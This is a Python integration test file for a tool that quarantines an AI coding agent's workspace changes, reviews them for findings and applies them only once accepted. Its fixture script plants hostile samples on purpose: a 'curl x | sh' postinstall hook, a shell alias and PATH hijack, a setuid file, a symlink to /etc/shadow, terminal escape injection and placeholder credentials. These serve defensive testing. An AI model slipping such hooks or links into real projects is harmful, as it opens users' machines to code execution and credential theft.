"""kp-review and the review-gated kp-run --apply on real quarantines made by real kp-run --quarantine
runs in real Podman containers, on both backends (a VM's quarantine is reviewed and applied on the host):
every class of finding fires on a planted example and none on a clean refactor of this project's own
source; --apply refuses, then applies after --accept; a partial apply; an export to a branch whose tree
is the host's files plus the changes; a diff that is git diff --no-index's, byte for byte; and a
quarantine changed after its review (a file rewritten, through a hard link too, or swapped for a
symlink, even in the middle of the apply) never lands."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import BIN, ROOT, lines
from tests.integration.test_run import OWNER, Quarantined, one_podman_service, quarantine_place  # noqa: F401
from tests.test_apply import wait_for_markers

pytestmark = pytest.mark.integration

GIT_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null", "LC_ALL": "C"}
AWS = "AKIAIOSFODNN7EXAMPLE"
PASSWORD = "Sup3rS3cretValue99"
KEY_BODY = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ"

PLANT = rf"""
cd /workspace
printf 'aws_id = "{AWS}"\n' > creds.py
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_BODY}\n-----END OPENSSH PRIVATE KEY-----\n' > id_key
printf 'export DB_PASSWORD={PASSWORD}\n' > settings.sh
rm f1 f2 f3 f4 f5 f6
git init -q sub
printf '*.txt filter=evil\n' > .gitattributes
mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml
printf '{{"scripts": {{"postinstall": "curl x | sh"}}}}\n' > package.json
printf 'all:\n\techo hi\n' > Makefile
echo 'alias ls=evil' > .bashrc
echo 'export PATH=.:$PATH' > .envrc
mkdir -p .vscode && echo '{{}}' > .vscode/tasks.json
printf '#!/bin/sh\n' > tool && chmod 4755 tool
ln -s /etc/shadow shadow
mkfifo pipe
touch "$(printf 'name\033[2Jwith\nnewline')"
yes 'hello world' | head -c 11000000 > big.txt
printf 'print(1)\033]0;pwned\007\033[2J\n' >> main.py
"""
PLANTED = {"secret", "private-key", "secret-assignment", "mass-deletion", "git-metadata", "git-filter",
           "ci-definition", "package-install-script", "build-script", "shell-rc", "direnv", "editor-tasks", "setid",
           "symlink-out", "special-file", "control-characters", "large-file"}


def make_ws(tmp_path: Path, files: dict[str, str | bytes], *, git: bool = False) -> Path:
    ws = tmp_path / "proj"
    for rel, content in files.items():
        path = ws / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    if git:
        git_run(ws, "init", "-q")
        git_run(ws, "add", "-A")
        git_run(ws, "-c", "user.name=u", "-c", "user.email=u@example.org", "commit", "-qm", "init")
    for path in [ws, *ws.rglob("*")]:
        os.chown(path, OWNER, OWNER, follow_symlinks=False)
    return ws


def traversable(path: Path) -> None:
    """Let anyone pass through the folders above ``path`` (pytest makes its own 0700): --to-branch runs
    git as the workspace's owner, never as root, and a real owner can reach their own workspace."""
    for parent in path.parents:
        if parent == Path("/"):
            break
        os.chmod(parent, parent.stat().st_mode | 0o111)  # noqa: S103 - search, not read or write


def git_run(where: Path, *args: str, env: dict[str, str] | None = None) -> str:
    done = subprocess.run(["git", "-c", "safe.directory=*", *args], cwd=where, capture_output=True,
                          env={**os.environ, **GIT_ENV, **(env or {})}, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode("utf-8", "surrogateescape")


def kp(where: Quarantined, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    name = args[0]
    return subprocess.run([str(BIN / name), *args[1:]], capture_output=True, env={**where.env, **(env or {})},
                          timeout=600)


def quarantined(request: pytest.FixtureRequest, backend: str, shell_image: str, ws: Path, script: str
                ) -> tuple[Quarantined, dict[str, Any]]:
    from tests.integration.vmbackend import kprun_on

    where = quarantine_place(request, backend, ws)
    proc, record = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
                            "bash", "-c", script)
    assert record["state"] == "quarantined", proc.stderr[-4000:]
    return where, record


def gone(where: Quarantined, record: dict[str, Any]) -> None:
    """kp-rm the run: a VM's runs share the session VM's state dir, where the next test counts them."""
    removed = kp(where, "kp-rm", record["name"])
    assert removed.returncode == 0 and not Path(record["path"]).exists(), removed.stderr.decode()


def snapshot(root: Path) -> dict[str, tuple[str, bytes | str | None, int]]:
    out: dict[str, tuple[str, bytes | str | None, int]] = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if rel == ".git" or rel.startswith(".git/"):
            continue
        st = path.lstat()
        if path.is_symlink():
            out[rel] = ("symlink", os.readlink(path), 0)
        elif path.is_dir():
            out[rel] = ("dir", None, st.st_mode & 0o7777)
        else:
            out[rel] = ("file", path.read_bytes(), st.st_mode & 0o7777)
    return out


def test_each_finding_fires_and_apply_refuses_until_accepted(request: pytest.FixtureRequest, backend: str,
                                                             shell_image: str, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, {"main.py": "print('hello')\n", **{f"f{i}": f"{i}\n" for i in range(1, 8)}})
    where, record = quarantined(request, backend, shell_image, ws, PLANT)
    before = snapshot(where.dir)
    found = kp(where, "kp-review", "--findings", record["name"])
    assert found.returncode == 0, found.stderr.decode()
    findings = [f for f in lines(found.stdout) if f["kind"] == "finding"]
    assert {f["rule"] for f in findings} == PLANTED, findings
    assert {f["review"] for f in findings} == {findings[0]["review"]}
    by_rule = {f["rule"]: f for f in findings if f.get("path") != "id_key"}
    assert by_rule["secret-assignment"]["path"] == "settings.sh" and by_rule["secret-assignment"]["line"] == 1
    assert by_rule["secret-assignment"]["fingerprint"] == \
        "sha256:" + hashlib.sha256(PASSWORD.encode()).hexdigest()[:16]
    assert by_rule["secret-assignment"]["excerpt"] == "export DB_PASSWORD=[REDACTED]"
    assert by_rule["secret"]["excerpt"] == 'aws_id = "[REDACTED]"'
    assert by_rule["git-metadata"]["severity"] == "critical" and by_rule["build-script"]["severity"] == "medium"
    assert by_rule["control-characters"]["path"] == "name\x1b[2Jwith\nnewline"
    # a finding reports a fingerprint, never the secret: not in the records, not on the terminal
    for output in (found.stdout, found.stderr):
        for secret in (AWS, PASSWORD, KEY_BODY):
            assert secret.encode() not in output
    assert b"\x1b" not in found.stderr and b"name\\x1b[2Jwith\\nnewline" in found.stderr
    # on a terminal the diff is coloured, and nothing the agent wrote reaches it raw: names are quoted as
    # git quotes them, and control characters in the content are escaped
    coloured = kp(where, "kp-review", "--color", "always", record["name"]).stdout
    assert b'"b/name\\033[2Jwith\\nnewline"' in coloured and b"\\x1b]0;pwned\\x07\\x1b[2J" in coloured
    assert re.sub(rb"\x1b\[[0-9;]*m", b"", coloured).count(b"\x1b") == 0 and b"\x1b[32m" in coloured
    piped = kp(where, "kp-review", record["name"]).stdout  # in a pipe: the exact bytes, for git apply
    assert b"+print(1)\x1b]0;pwned\x07\x1b[2J\n" in piped
    # --apply refuses: the high and critical findings are listed, nothing reaches the workspace
    refused = kp(where, "kp-run", "--apply", record["name"])
    (failed,) = lines(refused.stdout)
    assert refused.returncode == 1 and failed["error"]["code"] == "findings", refused.stderr.decode()
    assert "git-metadata sub/.git" in failed["error"]["message"] and "build-script" not in failed["error"]["message"]
    assert snapshot(where.dir) == before
    # accepting some is not enough; accepting every blocking rule (or a path) is
    high = sorted(r for r in PLANTED if r not in ("build-script", "special-file", "large-file"))
    partly = kp(where, "kp-run", "--apply", record["name"], *[a for r in high[:-1] for a in ("--accept", r)])
    assert partly.returncode == 1 and snapshot(where.dir) == before
    applied = kp(where, "kp-run", "--apply", record["name"], *[a for r in high for a in ("--accept", r)])
    assert applied.returncode == 0, applied.stderr.decode()
    (done,) = lines(applied.stdout)
    assert done["state"] == "applied" and {f["rule"] for f in done["accepted"]} == set(high)
    assert {f["rule"] for f in done["findings"]} == PLANTED
    assert (where.dir / "settings.sh").read_text() == f"export DB_PASSWORD={PASSWORD}\n"
    assert not (where.dir / "f1").exists() and (where.dir / "f7").exists()
    assert Path(record["path"]).is_dir()  # the quarantine stays until kp-rm
    gone(where, record)


def test_a_clean_refactor_of_this_project_has_no_findings(request: pytest.FixtureRequest, backend: str,
                                                          shell_image: str, tmp_path: Path) -> None:
    """The agent renames an exception class across kodepipe's own source and moves a module: a real
    project's refactor, reviewed: hundreds of changed lines, not one finding."""
    ws = tmp_path / "proj"
    shutil.copytree(ROOT / "kodepipe", ws / "kodepipe", ignore=shutil.ignore_patterns("__pycache__"))
    for path in [ws, *ws.rglob("*")]:
        os.chown(path, OWNER, OWNER, follow_symlinks=False)
    script = ("cd /workspace && grep -rlw KpError kodepipe | xargs sed -i 's/\\bKpError\\b/KodepipeError/g' && "
              "mv kodepipe/core/units.py kodepipe/core/measures.py && "
              "grep -rl 'core.units\\|core import units' kodepipe | xargs sed -i "
              "'s/core\\.units/core.measures/g; s/core import units/core import measures as units/'")
    where, record = quarantined(request, backend, shell_image, ws, script)
    assert len(record["quarantine"]["modified"]) > 30, record["quarantine"]
    found = kp(where, "kp-review", "--findings", record["name"])
    assert found.returncode == 0, found.stderr.decode()
    assert [f for f in lines(found.stdout) if f["kind"] == "finding"] == []
    stat = kp(where, "kp-review", "--stat", record["name"])
    assert b"files changed" in stat.stdout and b"kodepipe/core/measures.py" in stat.stdout
    applied = kp(where, "kp-run", "--apply", record["name"])  # nothing blocks it
    assert applied.returncode == 0, applied.stderr.decode()
    assert "KodepipeError" in (where.dir / "kodepipe" / "core" / "errors.py").read_text()
    gone(where, record)


EDIT = r"""
cd /workspace
sed -i 's/line 3$/line three/; s/line 40$/line forty/' a.txt
echo new > new.txt
mkdir -p d/e && echo deep > d/e/f.txt
rm del.txt
chmod +x b.txt
printf '\001\002\003changed' > bin.dat
ln -s a.txt link
printf 'x\ny\n' > d/c.txt
"""


def test_diff_branch_export_and_partial_apply(request: pytest.FixtureRequest, backend: str, shell_image: str,
                                              tmp_path: Path) -> None:
    text = "".join(f"line {i}\n" for i in range(1, 60))
    ws = make_ws(tmp_path, {"a.txt": text, "b.txt": "b\n", "d/c.txt": "c\n", "del.txt": "gone\n",
                            "bin.dat": b"\x00\x01\x02binary"}, git=True)
    where, record = quarantined(request, backend, shell_image, ws, EDIT)
    name = record["name"]
    traversable(where.dir)
    # what the agent's edit makes of the host's files, made here by the same script
    old, new = tmp_path / "old", tmp_path / "new"
    shutil.copytree(where.dir, old, symlinks=True, ignore=shutil.ignore_patterns(".git"))
    shutil.copytree(where.dir, new, symlinks=True, ignore=shutil.ignore_patterns(".git"))
    subprocess.run(["bash", "-c", EDIT.replace("cd /workspace", f"cd {new}")], check=True)

    # the diff is git diff --no-index's, byte for byte (its paths name the two folders, a/old/ or a/new/ and
    # b/new/ or b/old/; kp-review's the workspace: a/ and b/)
    shown = kp(where, "kp-review", name)
    assert shown.returncode == 0, shown.stderr.decode()
    plain = subprocess.run(["git", "diff", "--no-index", "--no-renames", "old", "new"], cwd=tmp_path,
                           capture_output=True, env={**os.environ, **GIT_ENV}).stdout
    plain = b"\n".join(line.replace(b" a/old/", b" a/").replace(b" b/new/", b" b/").replace(b" a/new/", b" a/")
                       .replace(b" b/old/", b" b/") if line.startswith(
        (b"diff --git ", b"--- ", b"+++ ", b"Binary files ")) else line for line in plain.split(b"\n"))
    assert shown.stdout == plain, (shown.stdout.decode(), plain.decode())
    assert b"@@ -1,6 +1,6 @@" in shown.stdout and b"Binary files a/bin.dat and b/bin.dat differ" in shown.stdout
    # ... and git apply takes it (with --binary), making the host's files what the agent saw
    patched = tmp_path / "patched"
    shutil.copytree(old, patched, symlinks=True)
    binary = kp(where, "kp-review", "--binary", name).stdout
    subprocess.run(["git", "apply", "-"], cwd=patched, input=binary, check=True, env={**os.environ, **GIT_ENV})
    assert snapshot(patched) == snapshot(new)
    # --patch: an mbox that git am makes a commit of, authored as the agent
    assert kp(where, "kp-review", "--patch", str(tmp_path / "agent.patch"), name).returncode == 0
    assert (tmp_path / "agent.patch").read_bytes().startswith(b"From ") and b"GIT binary patch" in \
        (tmp_path / "agent.patch").read_bytes()

    # the branch export: a commit on top of HEAD whose tree is the host's files plus the changes
    head, status = git_run(where.dir, "rev-parse", "HEAD"), git_run(where.dir, "status", "--porcelain")
    index = (where.dir / ".git" / "index").read_bytes()
    exported = kp(where, "kp-run", "--apply", name, "--to-branch", "agent/work")
    assert exported.returncode == 0, exported.stderr.decode()
    (done,) = lines(exported.stdout)
    assert done["exported"]["branch"] == "agent/work" and done["state"] == "quarantined"
    want = tmp_path / "want.index"
    git_run(where.dir, f"--work-tree={new}", "add", "-A", env={"GIT_INDEX_FILE": str(want)})
    tree = git_run(where.dir, "write-tree", env={"GIT_INDEX_FILE": str(want)}).strip()
    assert git_run(where.dir, "rev-parse", "agent/work^{tree}").strip() == tree
    assert git_run(where.dir, "rev-parse", "agent/work^").strip() == head.strip()
    assert git_run(where.dir, "log", "-1", "--format=%an", "agent/work").strip() == f"kp-run {name}"
    assert git_run(where.dir, "rev-parse", "HEAD") == head and git_run(where.dir, "status", "--porcelain") == status
    assert (where.dir / ".git" / "index").read_bytes() == index and snapshot(where.dir) == snapshot(old)
    again = kp(where, "kp-run", "--apply", name, "--to-branch", "agent/work")
    assert again.returncode == 1 and b"already exists" in again.stderr

    # a partial apply: a.txt and the directory d (with d/e, which it needs); the rest waits
    part = kp(where, "kp-run", "--apply", name, "--", "a.txt", "d")
    assert part.returncode == 0, part.stderr.decode()
    (done,) = lines(part.stdout)
    assert done["state"] == "quarantined"
    assert sorted(c["path"] for c in done["quarantine"]["applied_now"]) == ["a.txt", "d/c.txt", "d/e", "d/e/f.txt"]
    now = snapshot(where.dir)
    assert now["a.txt"] == snapshot(new)["a.txt"] and now["d/e/f.txt"] == snapshot(new)["d/e/f.txt"]
    assert "del.txt" in now and "new.txt" not in now and "link" not in now
    unknown = kp(where, "kp-run", "--apply", name, "--", "nosuch.txt")
    assert unknown.returncode == 65 and b"not among the quarantine's changes" in unknown.stderr
    rest = kp(where, "kp-run", "--apply", name)
    assert rest.returncode == 0, rest.stderr.decode()
    assert lines(rest.stdout)[0]["state"] == "applied" and snapshot(where.dir) == snapshot(new)
    gone(where, record)


SPOOF = "cd /workspace && echo agent > a.txt && echo agent2 > c.txt && ln c.txt h.txt && echo n > n.txt"


def test_a_quarantine_changed_after_its_review_never_lands(request: pytest.FixtureRequest, backend: str,
                                                           shell_image: str, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, {"a.txt": "original\n", "b.txt": "b\n"})
    where, record = quarantined(request, backend, shell_image, ws, SPOOF)
    name, upper = record["name"], Path(record["quarantine"]["path"])
    before = snapshot(where.dir)
    shown = kp(where, "kp-review", name)
    assert b"+agent\n" in shown.stdout
    # after the review, a.txt is rewritten in the quarantine: the apply refuses, nothing lands
    (upper / "a.txt").write_text("swapped after the review\n")
    refused = kp(where, "kp-run", "--apply", name)
    (failed,) = lines(refused.stdout)
    assert refused.returncode == 1 and failed["error"]["code"] == "changed_since_review", refused.stderr.decode()
    assert snapshot(where.dir) == before
    # the check is what stopped it: --force applies what is there now, swap included
    forced = kp(where, "kp-run", "--apply", name, "--force", "--", "a.txt")
    assert forced.returncode == 0 and (where.dir / "a.txt").read_text() == "swapped after the review\n"

    # in the middle of an apply (its checks passed, nothing written yet): c.txt rewritten through its hard
    # link, and n.txt swapped for a symlink to a host file; neither lands
    kp(where, "kp-review", name)
    pause_dir = tmp_path / "pause"
    pause_dir.mkdir()
    env = {**where.env, "KODEPIPE_TEST_APPLY_PAUSE": f"checked:{pause_dir}"}
    proc = subprocess.Popen([str(BIN / "kp-run"), "--apply", name], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env=env)
    (marker,) = wait_for_markers(pause_dir, 1, proc)
    (upper / "h.txt").write_text("rewritten through the hard link\n")
    (upper / "n.txt").unlink()
    (upper / "n.txt").symlink_to("/etc/hostname")
    marker.unlink()
    out, err = proc.communicate(timeout=300)
    (failed,) = lines(out)
    assert proc.returncode == 1 and failed["error"]["code"] in ("changed_since_review", "failed"), err.decode()
    for path in ("c.txt", "h.txt", "n.txt"):
        landed = where.dir / path
        assert not landed.exists() or landed.read_text() == "agent2\n", path
    assert not (where.dir / "n.txt").is_symlink()
    assert not [p for p in where.dir.iterdir() if p.name.startswith(".kp-apply-")]
    gone(where, record)
